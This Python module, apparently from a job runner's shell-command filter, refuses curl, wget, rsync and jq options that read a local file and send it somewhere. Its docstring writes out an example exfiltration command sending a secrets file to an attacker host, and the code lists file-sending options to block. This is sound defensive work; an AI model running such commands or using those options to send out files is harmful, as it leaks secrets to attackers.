"""Options that read a local file to send it somewhere: refused unless a pattern pins them.

A message chooses the URL, so ``curl -d @/etc/app/secrets.env https://attacker/`` sends a
file of the worker's to a host of the attacker's. These options read a file named by their
value and send its contents: curl ``-d``/``--data``/``--data-binary``/``--data-ascii``/
``--json``/``-H``/``--header``/``--proxy-header``/``--url`` with ``@file``,
``--data-urlencode``/``--url-query``/``--variable`` with ``name@file``, ``-F``/``--form``
with ``name=@file`` or ``name=<file``, ``-b``/``--cookie`` with a file name (a value without
``=``), ``--netrc-file``, ``--etag-compare``; wget ``--post-file``, ``--body-file``,
``-i``/``--input-file``, ``--load-cookies``; rsync ``--files-from``, ``--exclude-from``,
``--include-from``, ``--password-file``, ``--early-input``, ``--read-batch`` and filter rules
that merge a file (``-f 'merge FILE'``, ``. FILE``, ``dir-merge``). ``@-`` (standard input,
which is ``/dev/null``) passes. jq's ``--rawfile``, ``--slurpfile``, ``-f``/``--from-file``
and ``-L`` (a directory to load modules from) are refused the same way.

rsync also writes: a bare-listed rsync may send to a remote destination (``host:path``,
``rsync://``) or list (one operand, ``--list-only``, ``-n``), but not write a local
destination; a pattern pins one.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from celery_jobs_ext.shell.rules.options import argument_matches
from celery_jobs_ext.shell.rules.table import SHORT_OPTIONS_WITH_VALUES
from celery_jobs_ext.shell.syntax import refuse


def _values(
    arguments: Sequence[str],
    option: str,
    letters: str,
    trusted: frozenset[int],
    exceptions: frozenset[str] = frozenset(),
) -> list[tuple[str, str]]:
    """(argument, value) for each use of ``option`` (glued, after ``=`` or the next word).

    ``exceptions`` are the program's real options that are prefixes of ``option``: spelled in
    full they are themselves (``rsync --exclude`` is not ``--exclude-from``).
    """
    exceptions = exceptions - {option}
    found = []
    for position, argument in enumerate(arguments):
        if position in trusted:
            continue
        following = arguments[position + 1] if position + 1 < len(arguments) else ""
        if option.startswith("--"):
            if argument_matches(option, argument, letters, exceptions):
                _, equals, value = argument.partition("=")
                found.append((argument, value if equals else following))
        elif argument_matches(option, argument, letters, frozenset()):
            glued = argument[argument.index(option[1]) + 1 :]
            found.append((argument, glued or following))
    return found


def _refuse_reading(program: str, argument: str, value: str) -> None:
    refuse(
        f"argument {argument!r} of {program!r} reads the local file in {value!r} to send it; "
        "pin the file with a pattern if that is meant"
    )


_CURL_AT_FILE = ("-d", "--data", "--data-ascii", "--data-binary", "--json", "-H", "--header",
                 "--proxy-header", "--url")  # fmt: skip
_CURL_NAME_AT_FILE = ("--data-urlencode", "--url-query", "--variable")
_CURL_FILES = ("--netrc-file", "--etag-compare")
# curl's own long options that are prefixes of the ones above (an exact match wins).
_CURL_EXACT = frozenset({"--data", "--url", "--header"})


def check_curl_uploads(
    program: str, arguments: Sequence[str], trusted: frozenset[int] = frozenset(), pinned: bool = False
) -> None:
    """Refuse curl options that read a local file and send it."""
    letters = SHORT_OPTIONS_WITH_VALUES["curl"]
    for option in _CURL_AT_FILE:
        for argument, value in _values(arguments, option, letters, trusted, _CURL_EXACT):
            if value.startswith("@") and value != "@-":
                _refuse_reading(program, argument, value)
    for option in _CURL_NAME_AT_FILE:
        for argument, value in _values(arguments, option, letters, trusted):
            head = value.split("=", 1)[0] if "=" in value else value
            if "@" in head and not head.endswith("@-"):
                _refuse_reading(program, argument, value)
    for option in ("-F", "--form"):
        for argument, value in _values(arguments, option, letters, trusted):
            content = value.partition("=")[2].lstrip('"')
            if content.startswith(("@", "<")) and content not in ("@-", "<-"):
                _refuse_reading(program, argument, value)
    for option in ("-b", "--cookie"):
        for argument, value in _values(arguments, option, letters, trusted):
            if value and "=" not in value and value != "-":
                _refuse_reading(program, argument, value)
    for option in _CURL_FILES:
        for argument, value in _values(arguments, option, letters, trusted):
            _refuse_reading(program, argument, value)


_WGET_FILES = ("--post-file", "--body-file", "-i", "--input-file", "--load-cookies", "--input-metalink")


def check_wget_uploads(
    program: str, arguments: Sequence[str], trusted: frozenset[int] = frozenset(), pinned: bool = False
) -> None:
    """Refuse wget options that read a local file and send it (or its lines as URLs)."""
    letters = SHORT_OPTIONS_WITH_VALUES["wget"]
    for option in _WGET_FILES:
        for argument, value in _values(arguments, option, letters, trusted):
            if value != "-":
                _refuse_reading(program, argument, value)


_JQ_FILES = ("--rawfile", "--slurpfile", "--from-file", "-f", "-L", "--library-path")


def check_jq(
    program: str, arguments: Sequence[str], trusted: frozenset[int] = frozenset(), pinned: bool = False
) -> None:
    """Refuse jq options that read a named file into the program or load modules from a directory."""
    for position, argument in enumerate(arguments):
        if position in trusted:
            continue
        name = argument.split("=", 1)[0]
        if (
            name.startswith("--")
            and len(name) > 3
            and any(o.startswith(name) for o in _JQ_FILES if o[1] == "-")
        ) or (
            argument.startswith("-")
            and not argument.startswith("--")
            and any(c in argument[1:] for c in "fL")
        ):
            refuse(
                f"argument {argument!r} of {program!r} reads a file named by the message into the "
                "program (or loads modules from a directory); pin it with a pattern"
            )


def _long_options(text: str) -> tuple[str, ...]:
    return tuple("--" + name for name in text.split())


_RSYNC_VALUE_OPTIONS = _long_options(
    "info debug backup-dir suffix confine-root chmod checksum-choice block-size rsh rsync-path "
    "max-delete max-size min-size max-alloc partial-dir usermap groupmap chown timeout "
    "contimeout modify-window temp-dir compare-dest copy-dest link-dest compress-choice "
    "compress-level compress-threads skip-compress filter exclude exclude-from include "
    "include-from files-from copy-as address port sockopts outbuf remote-option out-format "
    "log-file log-file-format password-file early-input bwlimit stop-after stop-at "
    "write-batch only-write-batch read-batch protocol iconv checksum-seed zc cc"
)
_RSYNC_FILES = ("--files-from", "--exclude-from", "--include-from", "--password-file", "--early-input",
                "--read-batch")  # fmt: skip
_MERGE_RULE = re.compile(r"\s*(?:merge|dir-merge|\.|:)(?:[-+ ,/_a-z]*)\s", re.IGNORECASE)
_REMOTE = re.compile(r"(?:[^/:]+:|rsync://)")


def check_rsync(
    program: str, arguments: Sequence[str], trusted: frozenset[int] = frozenset(), pinned: bool = False
) -> None:
    """Refuse options that read a local file to send it, and a local destination."""
    letters = SHORT_OPTIONS_WITH_VALUES["rsync"]
    real = frozenset(_RSYNC_VALUE_OPTIONS)
    for option in _RSYNC_FILES:
        for argument, value in _values(arguments, option, letters, trusted, real):
            if value != "-":
                _refuse_reading(program, argument, value)
    for option in ("-f", "--filter"):
        for argument, value in _values(arguments, option, letters, trusted, real):
            if _MERGE_RULE.match(value + " "):
                _refuse_reading(program, argument, value)
    operands: list[int] = []
    listing = False
    position = 0
    while position < len(arguments):
        word = arguments[position]
        if word == "--":
            operands += range(position + 1, len(arguments))
            break
        if word.startswith("--"):
            name = word.split("=", 1)[0]
            if name in ("--list-only", "--dry-run") or (len(name) > 4 and "--list-only".startswith(name)):
                listing = True
            matches = [o for o in _RSYNC_VALUE_OPTIONS if o == name] or [
                o for o in _RSYNC_VALUE_OPTIONS if o.startswith(name) and len(name) > 2
            ]
            if matches and "=" not in word:
                position += 1
        elif word.startswith("-") and word != "-":
            for index, letter in enumerate(word[1:], start=1):
                if letter == "n":
                    listing = True
                if letter in letters:
                    position += 0 if word[index + 1 :] else 1
                    break
        else:
            operands.append(position)
        position += 1
    if pinned or listing or len(operands) < 2:
        return
    destination = operands[-1]
    if destination not in trusted and not _REMOTE.match(arguments[destination]):
        refuse(
            f"argument {arguments[destination]!r} of {program!r} is a local destination, which "
            "rsync writes; a bare-listed rsync may only send to a remote one (host:path), so pin "
            "the destination with a pattern"
        )
